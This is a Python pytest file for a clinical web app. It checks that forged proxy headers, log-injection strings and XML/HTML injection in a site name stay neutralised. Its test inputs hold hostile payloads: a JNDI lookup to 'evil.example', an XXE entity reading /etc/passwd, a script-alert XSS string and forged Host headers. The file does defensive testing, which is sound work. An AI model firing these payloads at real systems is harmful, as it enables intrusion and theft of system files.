"""What stands around a request: the host it names, what a proxy adds, the log it leaves, documents made of names."""

from __future__ import annotations

import io
import json
import re
from dataclasses import replace
from typing import Any
from urllib.parse import quote
from xml.etree import ElementTree

import httpx
import pytest
import structlog

from ehr.tenants import Tenants
from inference.assessment import VENTILATION
from tests.webapp.house import House
from tests.webapp.wired import Caller

SICK = "pneumonia-worsening"
SERVICE = f"/cds-services/{VENTILATION}"
EVIL = "evil.example"
FORGED = {
    "Host": EVIL,
    "X-Forwarded-Host": EVIL,
    "X-Forwarded-Proto": "javascript",
    "X-Forwarded-Port": "6666",
    "X-Forwarded-Prefix": f"//{EVIL}",
    "Forwarded": f"host={EVIL};proto=https",
    "X-Original-URL": f"//{EVIL}/",
    "X-Host": EVIL,
}
OPEN = ("/", "/launch", "/standalone", "/callback", "/result", "/about", "/cds-services", "/sites/demo/cds-services",
        "/.well-known/jwks.json", "/c", "/queue", "/gallery", "/healthz", "/readyz", "/nowhere", "//about", "/about/",
        f"/models/{VENTILATION}/card", f"/models/{VENTILATION}/card.xml", "/gate/demo", "/audits/demo",
        "/static/ordertime.css", SERVICE)  # fmt: skip


def steady(answer: httpx.Response) -> tuple[int, str, dict[str, str]]:
    """An answer without what is new each time: references, moments, form tokens."""
    text = re.sub(r"<code>\w{12}</code>|\d{2}:\d{2}(:\d{2})?|[\w-]{43}|reference \w{12}", "", answer.text)
    return answer.status_code, text, {k: v for k, v in answer.headers.items() if k not in ("date", "content-length")}


@pytest.mark.parametrize("path", OPEN)
def test_no_host_and_no_proxys_header_is_in_any_answer(caller: Caller, path: str) -> None:
    honest = caller.line.get(path)
    forged = caller.line.get(path, headers=FORGED)
    assert EVIL not in forged.text
    assert EVIL not in str(forged.headers)
    assert steady(forged) == steady(honest)  # nothing that a cache could keep for others


def test_a_launch_leads_back_to_our_address_whatever_host_was_called(caller: Caller, house: House) -> None:
    launch = house.hospital.launches.mint(patient=SICK, encounter="", user="Practitioner/okafor")
    query = {"iss": house.hospital.settings.fhir, "launch": launch}
    answer = caller.line.get("/launch", params=query, headers=FORGED)
    assert answer.status_code == 303
    assert EVIL not in str(answer.headers)
    assert httpx.URL(answer.headers["location"]).params["redirect_uri"] == "http://127.0.0.1:8000/callback"


# --- the log


LINES = ("\n{\"event\": \"answered\", \"status\": 200}", "\r\nWARNING all is well", "\x1b[2J\x1b[31mred", "\u2028next",
         "\u202eturned", "%(levelname)s ${jndi:ldap://evil.example/x}")  # fmt: skip


@pytest.mark.parametrize("text", LINES, ids=range(len(LINES)))
def test_a_request_writes_its_own_lines_of_the_log_and_no_others(caller: Caller, house: House, text: str) -> None:
    log, before = io.StringIO(), structlog.get_config()
    structlog.configure(logger_factory=structlog.PrintLoggerFactory(log))
    header = text.replace("\r", "").replace("\n", "").encode("ascii", "ignore").decode().strip("\x1b") or "x"
    clean = "".join(each for each in header if each.isprintable())
    try:
        written = quote(text)
        for path in ("/launch", "/callback", "/result", f"/{written}", f"/handout/{written}", f"{SERVICE}{written}"):
            caller.line.get(path, params={"iss": text, "launch": text, "state": text, "visit": text, "code": text})
        caller.line.get("/about", headers={"User-Agent": clean, "Referer": clean, "X-Request-Id": clean})
        body = {"hook": text, "hookInstance": text, "context": {"userId": text, "patientId": text}}
        caller.post(SERVICE, body)
        caller.post(SERVICE, {}, token=f"{clean}.{clean}.{clean}".replace(" ", ""))
    finally:
        structlog.configure(**before)
    lines = log.getvalue().split("\n")
    assert lines.pop() == ""
    assert len(lines) >= 9
    for line in lines:
        assert set(json.loads(line)) >= {"event", "level", "timestamp"}
        assert not re.search("[\x00-\x1f\x7f-\x9f\u2028\u202e]", line)
        assert "evil.example" not in line
        assert "all is well" not in line


# --- documents


def test_a_models_card_in_xml_is_one_document_whatever_a_site_is_called(caller: Caller, house: House) -> None:
    name = 'General & <!ENTITY x SYSTEM "file:///etc/passwd"> ]]> &x; <script>alert(1)</script>'
    before = house.rooms.tenants
    (tenant,) = before
    house.rooms.tenants = Tenants((replace(tenant, name=name),))
    try:
        answer = caller.line.get(f"/models/{VENTILATION}/card/demo.xml")
        page = caller.line.get(f"/models/{VENTILATION}/card/demo")
    finally:
        house.rooms.tenants = before
    assert answer.status_code == 200, answer.text
    assert "<!DOCTYPE" not in answer.text
    assert "<!ENTITY" not in answer.text
    tree = ElementTree.fromstring(answer.text)  # noqa: S314  our own document
    assert name in "".join(tree.itertext())
    assert "<script>alert" not in page.text


# --- one key twice


def test_of_a_key_that_stands_twice_the_last_counts_for_answer_and_trail_alike(caller: Caller, house: House) -> None:
    body = json.dumps(house.asked(SICK))
    twice = body.replace('"patientId": ', '"patientId": "sepsis", "patientId": ', 1)
    assert twice != body

    def posted(text: str) -> Any:
        bearer = f"Bearer {house.token(SERVICE)}"
        head = {"Authorization": bearer, "Content-Type": "application/json"}
        return caller.line.post(SERVICE, content=text.encode(), headers=head)

    (one,), (two,) = (posted(each).json()["cards"] for each in (body, twice))
    assert one == two  # the same instance about the same patient: the answer that was kept
    key = one["links"][0]["appContext"]
    assert house.rooms.ledger.recall(key, tenant="demo", patient="sepsis") is None
